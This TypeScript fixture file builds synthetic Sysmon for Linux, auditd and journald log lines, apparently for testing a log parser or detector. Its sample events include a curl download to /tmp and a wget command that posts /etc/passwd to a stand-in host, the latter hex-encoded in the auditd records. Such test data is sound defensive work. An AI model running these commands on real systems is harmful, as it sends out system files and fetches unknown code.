/** Synthetic lines in the forms that Sysmon for Linux, auditd and journald write. */

const field = (name: string, value: string) => `<Data Name="${name}">${value}</Data>`;

/** As Sysmon for Linux hands it to the syslog; `event` is the id, values are XML already. */
export const sysmonEvent = (event: number, number: number, data: Readonly<Record<string, string>>): string =>
  `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${event}</EventID><Version>5</Version><Level>4</Level><Task>${event}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-03-01T12:00:00.123456000Z"/><EventRecordID>${number}</EventRecordID><Correlation/><Execution ProcessID="610" ThreadID="611"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData>${Object.entries(
    data,
  )
    .map(([name, value]) => field(name, value))
    .join("")}</EventData></Event>`;

export const PROCESS = {
  RuleName: "-",
  UtcTime: "2024-03-01 12:00:00.120",
  ProcessGuid: "{a1b2c3d4-0000-0000-0000-000000000001}",
  ProcessId: "4242",
  Image: "/usr/bin/curl",
  CommandLine: "curl -s &quot;http://203.0.113.7/?a=1&amp;b=2&quot; &#x2d;o /tmp/x",
  CurrentDirectory: "/root",
  User: "root",
  ParentImage: "/bin/bash",
  ParentCommandLine: "bash",
};

export const syslogLine = (text: string, program = "sysmon"): string =>
  `Mar  1 12:00:01 web01 ${program}: ${text}`;

const hex = (text: string): string => Buffer.from(text).toString("hex").toUpperCase();

/** One event of auditd, a program started by a user, in its raw form. */
export const EXECVE = (serial: number): string[] => {
  const head = (type: string) => `type=${type} msg=audit(1709294400.123:${serial}):`;
  return [
    `${head("SYSCALL")} arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=1200 pid=1234 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="wget" exe="/usr/bin/wget" subj=unconfined key=${hex("net\u0001susp_activity")}`,
    `${head("EXECVE")} argc=3 a0="wget" a1=${hex("--post-file=/etc/pass wd")} a2="http://203.0.113.7/"`,
    `${head("CWD")} cwd="/root"`,
    `${head("PATH")} item=0 name="/usr/bin/wget" inode=1 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0`,
    `${head("PROCTITLE")} proctitle=${hex("wget\u0000--post-file=/etc/pass wd\u0000http://203.0.113.7/")}`,
    `${head("EOE")} `,
  ];
};

export const SERVICE_STOP =
  'type=SERVICE_STOP msg=audit(1709294401.000:9): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:init_t:s0 msg=\'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\'\u001dUID="root" AUID="unset"';

export const LOGIN =
  'type=USER_LOGIN msg=audit(1709294402.500:10): pid=77 uid=0 auid=1000 ses=4 msg=\'op=login acct="eve" exe="/usr/sbin/sshd" hostname=203.0.113.9 addr=203.0.113.9 terminal=ssh res=failed\'';

export const SOCKADDR = "type=SOCKADDR msg=audit(1709294403.001:11): saddr=020001BBCB0071070000000000000000";

export const journalLine = (fields: Readonly<Record<string, unknown>>): string =>
  JSON.stringify({ __REALTIME_TIMESTAMP: "1709294400123456", _HOSTNAME: "web02", PRIORITY: "6", ...fields });
